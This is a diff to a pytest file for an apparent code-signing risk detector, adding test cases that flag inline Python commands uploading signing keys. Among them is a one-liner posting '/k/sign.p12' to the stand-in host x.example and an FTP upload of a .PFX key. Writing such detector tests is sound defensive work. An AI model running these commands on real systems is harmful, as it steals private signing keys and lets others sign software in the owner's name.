@@ -25,6 +25,11 @@ from codesignrisk_core.tools import inline_code
             ["add_to_store_root", "store_interface"],
         ),
         ('ruby -e "c = OpenSSL::X509::Certificate.new"', ["make_certificate"]),
+        (
+            "python -c \"import requests; requests.post('http://x.example', files={'f': open('/k/sign.p12', 'rb')})\"",
+            ["upload_key_file"],
+        ),
+        ("python -c \"f.storbinary('STOR a', open('C:\\\\k\\\\sign.PFX', 'rb'))\"", ["upload_key_file"]),
     ],
 )
 def test_what_the_text_makes(line: str, indicators: list[str]) -> None:
@@ -33,7 +38,17 @@ def test_what_the_text_makes(line: str, indicators: list[str]) -> None:
     assert [found.indicator for found in report.findings] == indicators
 
 
-@pytest.mark.parametrize("line", ["python -m pip install cryptography", 'python -c "import certifi"', ""])
+@pytest.mark.parametrize(
+    "line",
+    [
+        "python -m pip install cryptography",
+        'python -c "import certifi"',
+        # a key that is only read, and a body that is none
+        "python -c \"open('sign.p12', 'rb').read()\"",
+        "python -c \"requests.post('http://x.example', files={'f': open('notes.txt')})\"",
+        "",
+    ],
+)
 def test_text_that_makes_none(line: str) -> None:
     assert inline_code.judge(Command("python.exe", argv.split(line), line)) is None
 
